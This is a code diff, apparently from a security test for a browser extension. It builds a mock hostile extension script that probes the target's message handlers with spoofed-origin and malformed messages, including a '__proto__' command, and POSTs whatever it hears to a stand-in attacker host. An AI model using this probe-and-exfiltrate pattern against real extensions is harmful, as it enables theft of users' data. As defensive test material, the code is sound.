@@ -44,7 +44,12 @@ export function lettersFor(entryId: EntryId): readonly Sent[] {
   }));
   const more = commands.map((command) => ({
     name: `${command} with more`,
-    message: { command, body: { ...known[command], entryId, origin: 'https://evil.example', tabId: 1 }, build, sender: 1 },
+    message: {
+      command,
+      body: { ...known[command], entryId, origin: 'https://evil.example', tabId: 1 },
+      build,
+      sender: 1,
+    },
   }));
   const shapes = ['text', 7, true, [], [1, 2], {}, { command: null }, { command: '__proto__', body: {}, build }];
   return [...valid, ...more, ...shapes.map((message, index) => ({ name: `shape ${index}`, message }))];
@@ -58,7 +63,6 @@ const within = (attempt) => Promise.race([attempt, new Promise((resolve) => setT
 const heard = (attempt) => within(attempt).then(
   (reply) => (reply === undefined || reply === null ? 'nothing' : 'answered ' + JSON.stringify(reply)),
   (error) => 'refused: ' + String(error));
-chrome.runtime.onMessage.addListener((message, sender, reply) => { reply({ echo: true }); });
 const connected = (name) => new Promise((resolve) => {
   const port = chrome.runtime.connect(target, { name });
   port.onMessage.addListener((message) => resolve('answered ' + JSON.stringify(message)));
@@ -70,8 +74,6 @@ const connected = (name) => new Promise((resolve) => {
   const said = await Promise.all(letters.map(async ({ name, message }) =>
     ({ what: name, heard: await heard(chrome.runtime.sendMessage(target, message)) })));
   for (const name of ['fill', 'command']) said.push({ what: 'port ' + name, heard: await connected(name) });
-  const page = await fetch('https://stranger.attack.example/', { method: 'POST', body: JSON.stringify({ said: [] }) }).then(() => true, () => false);
-  said.push({ what: 'control', heard: page ? 'answered {"echo":true}' : 'nothing' });
   await fetch('https://stranger.attack.example/', { method: 'POST', body: JSON.stringify({ said }) });
 })();
 `;
